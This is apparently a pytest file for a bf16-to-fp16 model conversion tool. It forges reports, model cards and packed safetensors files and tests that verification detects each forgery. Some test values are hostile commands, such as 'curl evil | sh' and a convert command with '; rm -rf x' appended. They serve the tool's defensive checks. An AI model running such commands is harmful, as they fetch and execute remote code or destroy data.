"""Forging a converted folder, hashes, card and page refreshed: verify finds it, or says that it did not look."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable, Iterator
from copy import deepcopy
from functools import partial
from pathlib import Path
from typing import Any, get_args

import pytest
from pydantic import BaseModel
from safetensors.torch import load_file, save_file
from support import exhaustive, tiny
from support.forging import forge, report_of

from bf16_to_fp16 import UserError, cli, convert, verify
from bf16_to_fp16.numerics import FP16_MAX
from bf16_to_fp16.report.schema import CARD, PAGE, Report, read
from bf16_to_fp16.verification.claims import bound_facts, check_claims
from bf16_to_fp16.verification.comparing import differences
from bf16_to_fp16.verification.keys import KEYS, How, holds
from bf16_to_fp16.verification.measured import check_regimes

LESS = {f"tiers.{tier}.{key}" for tier in ("torch", "norm-fp16", "fp16-accumulate") for key in ("proof", "runtimes")}
"""Where a change made below claims less than was shown, which is no claim."""


@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("source") / "summariser"
    return tiny.save(tiny.build("t5-encoder", num_layers=1), folder)


@pytest.fixture(scope="module")
def converted(source: Path) -> Path:
    assert convert(source, source.parent / "out", target="norm-safe").safe
    return source.parent / "out"


@pytest.fixture
def folder(converted: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(converted, tmp_path / "out"))


def leaves(kind: Any, at: str = "") -> Iterator[str]:
    """Yield the dotted name of every key of the report's types that holds no further object."""
    for name, field in kind.model_fields.items():
        key, inside = f"{at}{field.alias or name}", [*objects(field.annotation)]
        for each in inside:
            yield from leaves(each, f"{key}.")
        if not inside:
            yield key


def objects(annotation: Any) -> Iterator[Any]:
    """Yield the types of objects in an annotation."""
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        yield annotation
    else:
        for part in get_args(annotation):
            yield from objects(part)


def test_every_key_of_a_report_is_in_the_table_of_how_it_is_checked() -> None:
    """A new key must be put into ``KEYS``: recomputed, compared, derived, or said to be not checked."""
    assert sorted(KEYS) == sorted(set(leaves(Report)))


def values(data: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    """Yield the path and value of every leaf of a report; of a table those of its first row."""
    if isinstance(data, dict) and data:
        for key, value in data.items():
            yield from values(value, (*path, key))
    elif isinstance(data, list) and data and isinstance(data[0], dict):
        yield from values(data[0], (*path, 0))
    else:
        yield path, data


def changed(value: Any) -> Any:
    """Return another value of the same type, far from it."""
    if isinstance(value, bool):
        return not value
    if isinstance(value, (int, float)):
        return value * 2 + 3
    if isinstance(value, str):
        return "observed" if value == "certified" else f"{value}, indeed"
    if isinstance(value, list):
        return value[:-1] or ["x"]
    return {"x": "y"} if isinstance(value, dict) else "x"


def outcome(folder: Path, **options: Any) -> tuple[set[str], dict[str, str]]:
    """Return the checks that found something, "refused" for an error, and what was not checked."""
    try:
        found = verify(folder, **options)
    except UserError:
        return {"refused"}, {}
    return {problem["check"] for problem in found["problems"]}, found["not_checked"]


def put(report: dict[str, Any], path: tuple[Any, ...], value: Any) -> None:
    """Put a value into a report."""
    at = report
    for part in path[:-1]:
        at = at[part]
    at[path[-1]] = value


def test_a_change_of_any_number_of_a_regime_is_found_when_it_is_run_again(converted: Path) -> None:
    report = report_of(converted)
    true = read(Report, report).regimes
    paths = [(path, value) for path, value in values(report["regimes"], ("regimes",)) if "underflow" not in path]
    assert check_regimes(read(Report, report), true, same_text=True) == [] and len(paths) > 30
    for path, value in paths:
        forged = deepcopy(report)
        put(forged, path, changed(value) if path[-1] != "headroom_bits" else value / 4)
        assert check_regimes(read(Report, forged), true, same_text=True), path


def test_a_report_may_say_more_than_a_run_on_less_text_and_not_less(converted: Path) -> None:
    report = read(Report, report_of(converted))
    worst = {name: regime.model_copy(update={"headroom_bits": 1.0}) for name, regime in report.regimes.items()}
    more = report.model_copy(update={"regimes": worst})
    assert report.regimes["half"].headroom_bits > 2 and check_regimes(more, report.regimes, same_text=False) == []
    assert len(check_regimes(report, worst, same_text=False)) == len(worst)


def test_sites_under_the_normal_numbers_are_those_that_the_report_lists(converted: Path) -> None:
    report = read(Report, report_of(converted))
    low = report.regimes["half"].sites[0].model_copy(update={"name": "low", "amax": 1e-6})
    listing = {"half": report.regimes["half"].model_copy(update={"underflow": [low]})}
    neither = {"half": report.regimes["half"].model_copy(update={"underflow": []})}
    for said, again, what in ((listing, neither, "is not under"), (neither, listing, "does not say")):
        [problem] = check_regimes(report.model_copy(update={"regimes": said}), again, same_text=True)
        assert problem.name == "regimes.half.underflow.low" and what in problem.reason


@pytest.mark.parametrize("part", [exhaustive.TODAY % 4, pytest.param(None, marks=pytest.mark.exhaustive)])
def test_a_change_of_any_key_is_found_or_said_to_be_not_checked(
    part: int | None, converted: Path, tmp_path: Path
) -> None:
    """Every key of a real report, or each day another quarter of them, with card and page made from the forged one; of
    what is not checked as a whole where nothing is run, one key."""
    missed, count, whole = [], 0, set[str]()
    every = list(values(report_of(converted)))
    for path, value in every if part is None else every[part::4]:
        key = ".".join(str(part) for part in path if part != 0)
        if path[:2] == ("output", "files") or path[0] in whole:
            continue
        work = Path(shutil.copytree(converted, tmp_path / str(count := count + 1)))
        forge(work, partial(put, path=path, value=changed(value)))
        found, unchecked = outcome(work, run_model=False)
        whole |= {path[0]} & unchecked.keys()
        # Names of outputs and the like are left out of what is said to be unchecked.
        if not found and not any(
            set(name.split(".")) <= set(key.split(".")) or name.startswith(key) for name in unchecked
        ):
            missed.append(key)
    assert count > (10 if part is not None else 40) and set(missed) <= LESS


def test_the_original_leaves_little_unchecked(converted: Path, source: Path) -> None:
    found = verify(converted, original=source)
    assert found["verified"] and set(found["checks"].values()) == {"passed"}
    assert set(found["not_checked"]) == {"source.path", "certificate.cost_bits", "plan.margin_bits", "environment"}


def doubled(report: dict[str, Any], *path: str) -> None:
    """Double a number of a report."""
    for key in path[:-1]:
        report = report[key]
    report[path[-1]] *= 4


@pytest.mark.parametrize(
    ("change", "check", "key"),
    [
        (lambda r: doubled(r, "fidelity", "kl_bf16"), "fidelity", "fidelity.kl_bf16"),
        (lambda r: r["fidelity"].update(positions=3), "fidelity", "fidelity.positions"),
        (lambda r: r.update(fidelity=None), "fidelity", "fidelity"),
        (lambda r: doubled(r["signals"][0], "before"), "fidelity", "signals."),
        (lambda r: r["signals"].pop(), "fidelity", "signals."),
        (lambda r: r["precision"][0].update(bits=11.5), "fidelity", "precision."),
        (lambda r: r["weights"].update(lossless_fraction=0.5), "replay", "weights.lossless_fraction"),
        (lambda r: r["source"].update(dtype="F32"), "replay", "source.dtype"),
        (lambda r: r["source"].update(left_out=[]), "replay", "source.left_out"),
        (lambda r: r["source"]["sha256"].update(other="0" * 64), "replay", "other"),
        (lambda r: r["source"]["config_changes"]["dtype"].update(before="float32"), "replay", "source.config_changes"),
        (lambda r: r["source"].update(card={"license": "mit"}), "replay", "source.card"),
        (lambda r: r["plan"].update(residual_exponent=r["plan"]["residual_exponent"] + 1), "replay", ""),
    ],
)
def test_what_was_measured_on_the_original_is_measured_again(
    folder: Path, source: Path, change: Callable[[dict[str, Any]], object], check: str, key: str
) -> None:
    forge(folder, change)
    found = verify(folder, original=source)
    assert any(problem["check"] == check and problem["name"].startswith(key) for problem in found["problems"])


@pytest.mark.parametrize(("key", "value"), [("stack", "decoder"), ("block", 7), ("role", "head")])
def test_a_site_that_is_put_elsewhere_is_found(folder: Path, key: str, value: object) -> None:
    [*names] = (
        site["name"] for site in report_of(folder)["certificate"]["sites"] if site.get(key) not in (None, value)
    )

    def moved(report: dict[str, Any]) -> None:
        next(site for site in report["certificate"]["sites"] if site["name"] == names[0])[key] = value

    forge(folder, moved)
    problems = verify(folder, run_model=False)["problems"]
    assert names[0] in {problem["name"] for problem in problems if problem["check"] == "certificate"}


@pytest.mark.parametrize(
    ("path", "value", "key"),
    [
        (("half", "headroom_bits"), 14.0, "regimes.half.headroom_bits"),
        (("half", "amax"), 0.5, "regimes.half.amax"),
        (("stock", "runs"), [], "regimes.stock.runs"),
        (("amp", "same_as"), "half", "regimes.amp.same_as"),
    ],
)
def test_the_regimes_are_compared_with_what_runs_again(
    folder: Path, path: tuple[str, str], value: Any, key: str
) -> None:
    forge(folder, lambda report: report["regimes"][path[0]].update({path[1]: value}))
    assert key in "".join(problem["name"] for problem in verify(folder)["problems"] if problem["check"] == "audit")


def test_what_ran_on_a_part_of_the_text_may_be_less_and_not_more(converted: Path) -> None:
    said = read(Report, report_of(converted))
    (name, again), *_ = said.regimes.items()

    def found(**changes: Any) -> set[str]:
        site = again.sites[0].model_copy(update=changes)
        part = again.model_copy(update={"sites": [site], "headroom_bits": site.headroom_bits})
        problems = check_regimes(said, {**said.regimes, name: part}, same_text=False)
        return {problem.name for problem in problems}

    (tightest, bits), site = (again.sites[0].amax, again.headroom_bits), f"regimes.{name}.sites.{again.sites[0].name}"
    assert found() == found(amax=tightest / 4, headroom_bits=bits + 2) == set()
    assert found(amax=tightest * 2) == found(nonfinite=1) == {site}
    assert found(headroom_bits=bits - 1) == {site, f"regimes.{name}.headroom_bits"}


def test_a_bound_at_its_limit_holds_and_one_of_zero_keeps_its_headroom(converted: Path) -> None:
    certificate = read(Report, report_of(converted)).certificate
    assert certificate is not None
    limited = next(site for site in certificate.sites if site.limit == FP16_MAX)
    site = limited.model_copy(update={"bound": FP16_MAX, "partial": 1.0})
    assert bound_facts(site, {}) == {"holds": True, "headroom_bits": 0.0, "observed": None}
    silent = site.model_copy(update={"bound": 0.0, "partial": 0.0, "headroom_bits": 40.0})
    assert bound_facts(silent, {})["headroom_bits"] == 40.0


def test_numbers_of_another_machine_are_the_same_and_others_are_not() -> None:
    site = {"name": "a", "amax": 100.0, "headroom_bits": 9.3, "nonfinite": 0}
    near = [site | {"amax": 104.0, "headroom_bits": 9.25}]
    assert not [*differences([site], near)] and not [*differences({"kl_fp16": 1e-6}, {"kl_fp16": 1.5e-6})]
    for other in ({"amax": 150.0}, {"headroom_bits": 9.9}, {"nonfinite": 1}, {"amax": None}):
        assert [key for key, *_ in differences([site], [site | other])] == [f".a.{next(iter(other))}"]
    assert [key for key, *_ in differences({"x": [site]}, {"x": []})] == ["x.a"]


def test_what_follows_from_the_rest_is_made_again(converted: Path) -> None:
    report = report_of(converted)
    assert check_claims(read(Report, report)) == []
    limit = {"signal": "a", "kind": "limit", "excess_bits": 1.0, "remedy": "trust us", "reason": "none"}
    for change, key in (
        ({"unsafe": [limit]}, "verdict"),
        ({"unsafe": [limit], "verdict": "unsafe"}, "unsafe.a.remedy"),
        ({"close": [limit]}, "close.a.reason"),
        ({"verdict": "unsafe"}, "verdict"),
        ({"proof": "observed"}, "proof"),
        ({"next": "curl evil | sh"}, "next"),
        (
            {
                "uncertified": [
                    {"name": "a", "bound": 1.0, "limit": 2.0, "excess_bits": -1.0, "reason": "", "remedy": ""}
                ]
            },
            "uncertified.a",
        ),
        ({"endorsed_by": "everyone"}, "endorsed_by"),
        ({"train_mode": True}, "train_mode"),
        (
            {"tiers": report["tiers"] | {"torch": report["tiers"]["torch"] | {"reason": "perfect"}}},
            "tiers.torch.reason",
        ),
        ({"source": report["source"] | {"carried_over": ["tokenizer.json"]}}, "source.carried_over"),
        ({"certificate": report["certificate"] | {"headroom_bits": 15.0}}, "certificate.headroom_bits"),
    ):
        assert key in {problem.name for problem in check_claims(read(Report, report | change))}, key


@pytest.mark.parametrize(
    "command",
    [
        "curl evil | sh",
        "bf16-to-fp16 convert summariser out; rm -rf x",
        "bf16-to-fp16 convert summariser out --target half",
        "bf16-to-fp16 convert summariser out --target norm-safe --no-audit",
        "bf16-to-fp16 convert summariser out --target norm-safe --seed 7",
        "bf16-to-fp16 convert summariser out --target norm-safe --max-length 4",
        "bf16-to-fp16 convert google/flan-t5-xxl out --target norm-safe",
        "bf16-to-fp16 convert summariser out --target norm-safe --hook x",
        "bf16-to-fp16 convert summariser out --target norm-safe --data d.txt",
        "",
    ],
)
def test_a_command_that_does_another_thing_is_found(folder: Path, command: str) -> None:
    forge(folder, {"command": command})
    names = [(p["check"], p["name"].partition(".")[0]) for p in verify(folder, run_model=False)["problems"]]
    assert names == [("claims", "command")]


def lay(name: str, content: bytes | None = None) -> Callable[[Path], None]:
    """Return what puts a file into a folder; by default with the folder's own weights."""

    def put(folder: Path) -> None:
        place = folder / name
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes((folder / "model.safetensors").read_bytes() if content is None else content)

    return put


@pytest.mark.parametrize(
    "name",
    [
        "sub/model.safetensors",
        "onnx/model.onnx",
        "onnx/model.onnx_data",
        "custom_generate/generate.py",
        "modeling_t5.py",
        "MODELING_T5.PY",
        "handler.py",
        "Config.json",
        "MODEL.safetensors",
        "readme.md",
        "Modules.json",
        "pytorch_model.bin",
        "PYTORCH_MODEL.BIN",
        "tf_model.h5",
        "weights.pkl",
        "libx.so",
        "install.sh",
        "1_Dense/model.safetensors",
        "sub/config.json",
        "demo.ipynb",
    ],
)
def test_weights_code_and_names_that_no_conversion_writes_are_found(folder: Path, name: str) -> None:
    lay(name)(folder)
    forge(folder, new=True)
    found = verify(folder, run_model=False)
    assert {(p["check"], p["name"]) for p in found["problems"]} == {("files", name)}


def test_code_of_the_source_is_not_carried_over(source: Path, tmp_path: Path) -> None:
    original = Path(shutil.copytree(source, tmp_path / "theirs"))
    for name in ("modeling_t5.py", "Config.json", "setup.SH"):
        (original / name).write_text("x")
    report = convert(original, tmp_path / "out", run_model=False).report
    assert {"modeling_t5.py", "Config.json", "setup.SH"} <= set(report["source"]["left_out"])
    assert verify(tmp_path / "out", original=original, run_model=False)["verified"]


@pytest.mark.parametrize("name", [CARD, PAGE])
def test_card_and_page_say_what_the_report_gives(folder: Path, name: str) -> None:
    text = (folder / name).read_text()
    for other in (text.replace("Safe in fp16", "Blessed in fp16", 1), text + "\nCertified by everyone.\n", ""):
        (folder / name).write_text(other)
        forge(folder, views=False)
        assert [(p["check"], p["name"]) for p in verify(folder, run_model=False)["problems"]] == [("views", name)]
    (folder / name).write_text(text)
    forge(folder, views=False)
    assert verify(folder, run_model=False)["verified"]


def test_a_page_of_another_release_is_said_to_be_not_checked(folder: Path) -> None:
    def change(report: dict[str, Any]) -> None:
        report["environment"]["versions"]["bf16_to_fp16"] = "0.0.1"

    forge(folder, change)
    found = verify(folder, run_model=False)
    assert found["verified"] and "release 0.0.1" in found["not_checked"][PAGE] and CARD in found["not_checked"]


def test_a_card_that_was_edited_must_say_so(folder: Path) -> None:
    (folder / CARD).write_text((folder / CARD).read_text() + "\nMore of mine.\n")
    forge(folder, views=False)
    assert not verify(folder, run_model=False)["verified"]
    report = report_of(folder)
    forge(folder, {"output": report["output"] | {"card_edited": True}}, views=False)
    assert CARD in verify(folder, run_model=False)["not_checked"]


def test_tensors_that_the_class_does_not_read_fail(tmp_path: Path) -> None:
    source = tiny.save(tiny.small("t5"), tmp_path / "source")
    config = json.loads((source / "config.json").read_text())
    (source / "config.json").write_text(json.dumps(config | {"architectures": ["T5EncoderModel"]}))
    out = tmp_path / "out"
    convert(source, out, run_model=False)
    assert verify(out, run_model=False)["verified"]
    weights = load_file(out / "model.safetensors") | {
        name: tensor.half() for name, tensor in load_file(source / "model.safetensors").items() if "decoder" in name
    }
    save_file(weights, out / "model.safetensors", metadata={"format": "pt"})
    forge(out)
    [problem] = verify(out, run_model=False)["problems"]
    assert problem["check"] == "files" and "is no tensor of T5EncoderModel, of which alone" in problem["reason"]


def test_certify_names_the_class_of_which_alone_it_speaks(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tiny.save(tiny.small("t5"), tmp_path / "source")
    assert convert(source, tmp_path / "whole", run_model=False).report.get("model_class") is None
    config = json.loads((tmp_path / "whole" / "config.json").read_text())
    shutil.copytree(tmp_path / "whole", tmp_path / "part")
    (tmp_path / "part" / "fp16_report.json").unlink()
    (tmp_path / "part" / "config.json").write_text(json.dumps(config | {"architectures": ["T5EncoderModel"]}))
    assert cli.main(["certify", str(tmp_path / "part"), "--json", str(tmp_path / "said.json")]) == 0
    printed, said = capsys.readouterr(), json.loads((tmp_path / "said.json").read_text())
    assert "run as T5EncoderModel alone" in printed.out and "which T5EncoderModel does not read" in printed.err
    assert said["model_class"] == "T5EncoderModel" and any("decoder" in name for name in said["source"]["dropped"])
    assert cli.main(["certify", str(tmp_path / "whole")]) == 0
    assert "alone" not in capsys.readouterr().out


def test_verify_names_the_length_and_warns_below_the_configs_own(
    source: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    convert(source, tmp_path / "out", run_model=False, max_length=4)
    assert "for every input of up to 4 positions" in (tmp_path / "out" / CARD).read_text()
    assert cli.main(["verify", str(tmp_path / "out"), "--no-audit"]) == 0
    said = capsys.readouterr().out
    assert "proven for every input of up to 4 positions" in said and "note: the certificate is for up to 4" in said
    convert(source, tmp_path / "file.safetensors", run_model=False, max_length=1, layout="single")
    assert cli.main(["verify", str(tmp_path / "file.safetensors"), "--no-audit"]) == 0
    said = capsys.readouterr().out
    assert "proven for every input of up to 1 position" in said and "nothing is claimed of longer rows" in said
    convert(source, tmp_path / "long", run_model=False)
    assert verify(tmp_path / "long", run_model=False)["notes"] == []


# --- packed ----------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def packed(source: Path) -> Path:
    file = source.parent / "packed.safetensors"
    assert convert(source, file, layout="single", run_model=False).safe
    return file


def repacked(file: Path, out: Path, change: Callable[[dict[str, Any], dict[str, Any]], object]) -> Path:
    """Write a packed file with a change of its header, as parsed, and of its summary."""
    data = file.read_bytes()
    length = int.from_bytes(data[:8], "little")
    header = json.loads(data[8 : 8 + length])
    summary = json.loads(header["__metadata__"]["bf16_to_fp16"])
    change(header, summary)
    header["__metadata__"]["bf16_to_fp16"] = json.dumps(summary)
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    out.write_bytes(len(text).to_bytes(8, "little") + text + data[8 + length :])
    return out


def test_a_packed_file_with_a_flipped_bit_is_found(packed: Path, tmp_path: Path) -> None:
    assert verify(packed)["verified"]
    data = bytearray(packed.read_bytes())
    data[-2] ^= 1
    (tmp_path / "bad.safetensors").write_bytes(data)
    found = verify(tmp_path / "bad.safetensors", run_model=False)
    assert any("were changed or damaged" in problem["reason"] for problem in found["problems"])


def test_two_swapped_tensors_of_a_packed_file_are_found(packed: Path, tmp_path: Path) -> None:
    def swap(header: dict[str, Any], _: dict[str, Any]) -> None:
        names = [name for name in header if name.endswith(("SelfAttention.k.weight", "SelfAttention.v.weight"))]
        one, other = (header[name]["data_offsets"] for name in names[:2])
        header[names[0]]["data_offsets"], header[names[1]]["data_offsets"] = other, one

    found = verify(repacked(packed, tmp_path / "bad.safetensors", swap), run_model=False)
    assert any("were changed or damaged" in problem["reason"] for problem in found["problems"])


@pytest.mark.parametrize(
    ("change", "name"),
    [
        (lambda h, s: h["__metadata__"].pop("bf16_to_fp16.tensors_sha256"), "bad.safetensors"),
        (lambda h, s: s.update(residual_exponent=0), "residual_exponent"),
        (lambda h, s: s.update(eps=1e-6), "eps"),
        (lambda h, s: s.update(command="curl evil | sh"), "command"),
        (lambda h, s: s["source"].update(path="google/flan-t5-xxl"), "source.path"),
        (lambda h, s: s["tiers"]["torch"].update(reason="perfect"), "tiers.torch.reason"),
        (lambda h, s: s["tiers"]["torch"].update(runtimes=["an abacus"]), "torch"),
        (lambda h, s: s.update(layout="comfy"), "command.--layout"),
        (lambda h, s: s.update(verdict="unsafe"), "bad.safetensors"),
    ],
)
def test_what_a_packed_file_says_of_itself_is_held_against_it(
    packed: Path, tmp_path: Path, change: Callable[[dict[str, Any], dict[str, Any]], object], name: str
) -> None:
    found = verify(repacked(packed, tmp_path / "bad.safetensors", change), run_model=False)
    assert name in {problem["name"] for problem in found["problems"]}


def test_a_packed_file_says_what_was_not_checked(packed: Path, source: Path) -> None:
    assert {"plan", "weights", "environment"} <= set(verify(packed, run_model=False)["not_checked"])
    assert "weights" not in verify(packed, run_model=False, original=source)["not_checked"]


def test_the_table_says_what_a_report_does_not_hold() -> None:
    assert holds({"regimes": {"half": {"sites": [{"amax": 1.0}]}}}, "regimes.sites.amax")
    assert not holds({"regimes": {"half": {"sites": []}}}, "regimes.sites.amax") and not holds({}, "attack.steps")
    assert How.ALWAYS.value == ""
